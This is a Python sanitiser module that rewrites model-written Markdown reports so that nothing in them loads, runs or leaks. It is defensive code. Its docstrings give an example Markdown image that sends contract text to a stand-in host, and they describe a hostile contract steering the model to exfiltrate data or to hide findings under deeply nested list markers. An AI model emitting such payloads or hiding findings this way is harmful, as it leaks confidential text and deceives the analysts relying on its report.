"""Model and server text → Markdown that cannot make the analyst's browser fetch anything.

A report is written by a model that read a contract written by the other side, so it is hostile
text: `![x](https://host/p.png?q=<contract text>)` in it would make the browser send that text to
`host` the moment the report is drawn. Recognising the dangerous constructs in the source text is
fragile (reference definitions, angle-bracket destinations, entities, autolink literals), so this
module works the other way round: it parses the text with markdown-it-py and writes Markdown back
from the parse tree, escaping every character of every piece of text that could start syntax. The
output holds no Markdown syntax except the structure written here — headings, lists, quotes,
tables, code, emphasis and links to the contract's own hosts — so whatever parser draws it
(Streamlit's differs from markdown-it in details) finds no image, no raw HTML and no autolink in
it:

- an image becomes its alt text and "(image not loaded: `url`)";
- a link to a host the contract does not name becomes its text and the URL in a code span;
- raw HTML becomes the text of the tag;
- a bare URL or e-mail address in text goes into a code span: Streamlit's GFM turns URLs it finds
  in text nodes into links even when their dots and colons were escaped in the source.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from functools import lru_cache
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

# What is escaped in text: the characters that start Markdown syntax anywhere in a line (Streamlit
# adds `$` for maths and `:` for its colours, icons and emoji; a `#` run closes a heading); the
# list and underline markers, and a list number's `.` or `)`, only at a text piece's start, where
# a line may begin; a `:` unless a space follows it. The rest of the punctuation (sentences'
# commas, full stops, quotes, brackets) is left as written, so a downloaded file reads as text.
_ALWAYS = str.maketrans({ch: "\\" + ch for ch in "\\`*_{}[]<>|$~^&!#"})
_LINE_MARKER = re.compile(r"^([ \t]*)([-+=])")
_LIST_NUMBER = re.compile(r"^([ \t]*\d{0,9})([.)])(?=[ \t]|$)")
_COLON = re.compile(r":(?!\s)")
# A line break inside a text piece comes only from an entity (`&#10;`, `&#13;`): written out, it
# would start a line the parse never had (`*&#13;*` is emphasis; written bare, a list item).
_LINE_BREAKS = str.maketrans("\r\n", "  ")
# Bidirectional embeddings, overrides and isolates: they make text show in another order than it
# is written ("invoice\u202efdp.exe" reads "invoiceexe.pdf"), so a model's words could show as
# something else. Dropped from all Markdown the app draws and every file it writes (`without_bidi`);
# a report needs none of them.
_BIDI_CONTROLS = str.maketrans(dict.fromkeys([*range(0x202A, 0x202F), *range(0x2066, 0x206A)]))


def without_bidi(text: str) -> str:
    return text.translate(_BIDI_CONTROLS)


# A host name as written in running text: labels of letters, digits and hyphens, a letter TLD.
_HOST = re.compile(
    r"(?<![\w.@-])(?:[a-z][a-z0-9+.-]*://)?(?:[^\s/@:]+@)?((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+"
    r"[a-z]{2,63})(?![\w-])",
    re.IGNORECASE,
)
_BACKTICKS = re.compile(r"`+")
# Wider than what GFM autolinks (scheme://, www., mailto:/xmpp:, e-mail addresses), on purpose:
# "://" with no scheme too, which a scheme in the text piece before it would complete.
# A URL's run stops at the private-use characters that stand in for a quote check's mark
# (`lib.analysis.grounding.annotate`): a mark right after a quoted URL went into its code span.
_URL_LIKE = re.compile(
    r"(?:(?:[a-z][a-z0-9+.-]*)?://|www\d{0,3}\.|(?:mailto|xmpp):)[^\s<>\ue000-\ue003]*"
    r"|[\w.+-]+@[\w-]+(?:\.[\w-]+)+",
    re.IGNORECASE,
)
_TRAILING = ".,:;!?\"')]*_~"
_ALIGN = {"text-align:left": ":---", "text-align:right": "---:", "text-align:center": ":---:"}
_LINK_SCHEMES = frozenset({"http", "https"})
# A code block's language is a class name for highlighting, never a place for outside text.
_LANGUAGE = re.compile(r"[A-Za-z0-9_+#-]{1,24}")
# A list item or a quote opening a line, with the spaces before and after it.
_CONTAINER = re.compile(r"[ \t]*(?:[-*+>]|\d{1,9}[.)])(?:[ \t]+|$)")
# Lists and quotes this deep are drawn as such; markers past them are text. markdown-it's block
# nesting limit (20 token levels) is reached at about nine, where it drops the rest.
_KEPT_MARKERS = 6
_DEEPEST = 19


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def hosts_in(text: str) -> frozenset[str]:
    """Every host name the text mentions (URLs, e-mail domains, bare `example.com`), normalised.

    Links to these stay links: the contract itself names them, so following one tells nobody
    anything the contract did not.
    """
    return frozenset(_normal_host(match.group(1)) for match in _HOST.finditer(text))


def _normal_host(host: str) -> str:
    host = host.lower().rstrip(".")
    return host.removeprefix("www.")


def escape_markdown(text: str) -> str:
    """Text to show as it is inside Markdown (a label, a file name): no syntax, one line."""
    return _literal(" ".join(without_bidi(text).split()))


def _literal(text: str, in_table: bool = False) -> str:
    """Plain text that no Markdown parser reads as syntax, its URLs in code spans."""
    parts: list[str] = []
    position = 0
    for match in _URL_LIKE.finditer(text):
        url = match.group().rstrip(_TRAILING)
        if not url:
            continue
        parts.append(_escaped(text[position : match.start()]))
        parts.append(_code_span(url.replace("|", "\\|") if in_table else url))
        position = match.start() + len(url)
    parts.append(_escaped(text[position:]))
    return "".join(parts)


def _escaped(text: str) -> str:
    text = text.translate(_LINE_BREAKS).translate(_ALWAYS)
    if ":" in text:
        text = _COLON.sub(r"\\:", text)
    text = _LINE_MARKER.sub(r"\1\\\2", text, count=1)
    return _LIST_NUMBER.sub(r"\1\\\2", text, count=1)


def safe_markdown(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """Markdown with the structure of `text` and nothing that loads, runs or leaks.

    `allowed_hosts` are the hosts links may point to (see `hosts_in`); every other link is shown
    as text with its URL.
    """
    hosts = frozenset(_normal_host(h) for h in allowed_hosts)
    text = without_bidi(text)
    if not text.strip():
        return ""
    return _Writer(hosts).blocks(_blocks(text)).rstrip("\n") + "\n"


def _blocks(text: str, retry: bool = True) -> list[SyntaxTreeNode | str]:
    """The top-level blocks of `text`. Past its nesting limit markdown-it stops parsing the block
    and drops the rest of it, up to the end of the text: a model (or a contract steering it) could
    hide every finding below one line of 30 nested list markers. Such a block is parsed again
    with its too-deep markers made text, and shown as plain lines if that is still too deep."""
    tokens = _parser().parse(text)
    tree = SyntaxTreeNode(tokens)
    levels = (t.level for token in tokens for t in (token, *(token.children or ())))
    if max(levels, default=0) < _DEEPEST:
        return list(tree.children)  # the live report's every line: no block to look at again
    lines = text.split("\n")
    out: list[SyntaxTreeNode | str] = []
    for node in tree.children:
        if node.map is None or max(n.level for n in node.walk()) < _DEEPEST:
            out.append(node)
            continue
        chunk = lines[node.map[0] : node.map[1]]
        if retry:
            out += _blocks("\n".join(_shallow(line) for line in chunk), retry=False)
        else:
            out.append("\n".join(escape_markdown(line) for line in chunk if line.strip()))
    return out


def _shallow(line: str) -> str:
    """The line with the list and quote markers past `_KEPT_MARKERS` written as text."""
    position = 0
    for _ in range(_KEPT_MARKERS):
        marker = _CONTAINER.match(line, position)
        if marker is None:
            return line
        position = marker.end()
    return line[:position] + _literal(line[position:])


def _code_span(content: str) -> str:
    fence = "`" * (max((len(run) for run in _BACKTICKS.findall(content)), default=0) + 1)
    pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
    return f"{fence}{pad}{content}{pad}{fence}"


def _prefix(body: str, first: str, rest: str) -> str:
    lines = body.split("\n") or [""]
    out = [(first + lines[0]).rstrip()]
    out += [(rest + line) if line.strip() else rest.rstrip() for line in lines[1:]]
    return "\n".join(out)


class _Writer:
    def __init__(self, hosts: frozenset[str]) -> None:
        self.hosts = hosts

    # Blocks -------------------------------------------------------------------------------
    def blocks(self, nodes: Iterable[SyntaxTreeNode | str], separator: str = "\n\n") -> str:
        parts: list[str] = []
        last_list: tuple[str, str] | None = None  # the list just written: its kind and marker
        for node in nodes:
            if isinstance(node, str):
                part, mark = node, None
            elif node.type in ("bullet_list", "ordered_list"):
                part, mark = self.list_(node, last_list)
            else:
                part, mark = self.block(node), None
            if part:
                parts.append(part)
                last_list = mark
        return separator.join(parts)

    def block(self, node: SyntaxTreeNode) -> str:
        kind = node.type
        if kind == "paragraph":
            return self.inline_of(node)
        if kind == "heading":
            level = int(node.tag[1:]) if node.tag[1:].isdigit() else 1
            return "#" * level + " " + self.inline_of(node, one_line=True)
        if kind == "blockquote":
            return _prefix(self.blocks(node.children), "> ", "> ")
        if kind in ("fence", "code_block"):
            return self.fence(node)
        if kind == "hr":
            # Not "---" nor "***": in a list item, "- ---" and "* ***" are each a rule alone.
            return "___"
        if kind == "table":
            return self.table(node)
        if kind == "html_block":
            lines = (line.strip() for line in node.content.split("\n"))
            return "\n".join(_literal(line) for line in lines if line)
        if node.children:
            return self.blocks(node.children)
        return escape_markdown(node.content)

    def list_(
        self, node: SyntaxTreeNode, after: tuple[str, str] | None
    ) -> tuple[str, tuple[str, str]]:
        """The list, and its kind and marker: a list written just `after` one of the same kind
        and marker takes the other marker, or the two would read as one list."""
        tight = all(
            grand.hidden
            for item in node.children
            for grand in item.children
            if grand.type == "paragraph"
        )
        separator = "\n" if tight else "\n\n"
        ordered = node.type == "ordered_list"
        number = int(node.attrs.get("start", 1)) if ordered else 0
        delimiter = node.markup if node.markup in (".", ")") else "."
        bullet = node.markup if node.markup in ("-", "*", "+") else "-"
        if after == (node.type, delimiter if ordered else bullet):
            delimiter, bullet = ")" if delimiter == "." else ".", "*" if bullet == "-" else "-"
        items = []
        for offset, item in enumerate(node.children):
            marker = f"{number + offset}{delimiter} " if ordered else f"{bullet} "
            # An empty item written as its bare marker is no item after a paragraph line: "-"
            # underlines it as a heading, "*" joins it. A space, as an entity, keeps it an item.
            body = self.blocks(item.children, separator) or "&#32;"
            items.append(_prefix(body, marker, " " * len(marker)))
        return separator.join(items), (node.type, delimiter if ordered else bullet)

    def fence(self, node: SyntaxTreeNode) -> str:
        content = node.content if node.content.endswith("\n") else node.content + "\n"
        longest = max((len(run) for run in _BACKTICKS.findall(content)), default=0)
        fence = "`" * max(3, longest + 1)
        words = node.info.split()
        language = words[0] if words and _LANGUAGE.fullmatch(words[0]) else ""
        return f"{fence}{language}\n{content}{fence}"

    def table(self, node: SyntaxTreeNode) -> str:
        rows: list[list[SyntaxTreeNode]] = [
            row.children for section in node.children for row in section.children
        ]
        if not rows:
            return ""
        lines = []
        for index, cells in enumerate(rows):
            texts = [self.inline_of(cell, one_line=True, in_table=True) for cell in cells]
            lines.append("| " + " | ".join(texts) + " |")
            if index == 0:
                aligns = [_ALIGN.get(str(cell.attrs.get("style", "")), "---") for cell in cells]
                lines.append("| " + " | ".join(aligns) + " |")
        return "\n".join(lines)

    # Inline -------------------------------------------------------------------------------
    def inline_of(
        self, node: SyntaxTreeNode, *, one_line: bool = False, in_table: bool = False
    ) -> str:
        children = [child for inline in node.children for child in inline.children]
        return self.inlines(children, one_line, in_table).strip()

    def inlines(self, nodes: Iterable[SyntaxTreeNode], one_line: bool, in_table: bool) -> str:
        out = ""
        for node in nodes:
            part = self.inline(node, one_line, in_table)
            # Two code spans side by side would merge their fences into one longer run that closes
            # neither, and the URL quoted in the first would be bare text a renderer may link.
            out += " " + part if out.endswith("`") and part.startswith("`") else part
        return out

    def inline(self, node: SyntaxTreeNode, one_line: bool, in_table: bool) -> str:
        kind = node.type
        if kind == "text":
            return _literal(node.content, in_table)
        if kind == "softbreak":
            return " " if one_line else "\n"
        if kind == "hardbreak":
            return " " if one_line else "\\\n"
        if kind == "code_inline":
            content = node.content.replace("|", "\\|") if in_table else node.content
            return _code_span(content)
        if kind in ("em", "strong", "s"):
            mark = "~~" if kind == "s" else node.markup
            inner = self.inlines(node.children, one_line, in_table)
            # Emphasis cannot open or close on a space (an entity can put one there): written
            # around it, the marks would be text, or a list item at a line's start.
            core = inner.strip()
            if not core:
                return inner
            start = inner.index(core)
            return f"{inner[:start]}{mark}{core}{mark}{inner[start + len(core) :]}"
        if kind == "link":
            return self.link(node, one_line, in_table)
        if kind == "image":
            alt = self.inlines(node.children, one_line, in_table)
            shown = f"{alt} " if alt else ""
            url = self.url_text(node.attrs.get("src"), in_table)
            return f"{shown}(image not loaded{': ' + url if url else ''})"
        if node.children:
            return self.inlines(node.children, one_line, in_table)
        return _literal(node.content, in_table)

    def link(self, node: SyntaxTreeNode, one_line: bool, in_table: bool) -> str:
        href = str(node.attrs.get("href", ""))
        label = self.inlines(node.children, one_line, in_table)
        if self.allowed(href):
            destination = "".join(
                f"%{ord(ch):02X}" if ch in "\\()<> |" or ord(ch) < 33 else ch for ch in href
            )
            return f"[{label}]({destination})"
        plain = "".join(child.content for child in node.walk() if child.type == "text")
        url = self.url_text(href, in_table)
        if plain in (href, href.removeprefix("mailto:")) or not url:
            return url or label
        return f"{label} ({url})"

    def allowed(self, href: str) -> bool:
        try:
            parts = urlsplit(href)
            host = parts.hostname
        except ValueError:
            return False
        return (
            parts.scheme.lower() in _LINK_SCHEMES
            and host is not None
            and _normal_host(host) in self.hosts
        )

    @staticmethod
    def url_text(url: object, in_table: bool) -> str:
        """The URL in a code span; "" for none (an empty span's fences would pair with the
        next span's and leave the URL in it as bare text)."""
        text = " ".join(str(url or "").split())
        return _code_span(text.replace("|", "\\|") if in_table else text) if text else ""
